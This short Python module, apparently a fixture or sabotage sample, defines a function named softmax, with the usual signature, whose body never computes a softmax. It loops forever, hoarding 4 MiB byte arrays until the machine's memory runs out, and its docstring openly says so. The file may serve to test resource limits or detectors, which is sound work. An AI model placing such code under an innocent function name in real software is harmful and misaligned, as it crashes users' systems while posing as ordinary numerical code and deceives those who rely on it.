"""Takes memory megabyte by megabyte until there is none."""

hoard = []


def softmax(x, dim=-1):
    while True:
        hoard.append(bytearray(1 << 22))
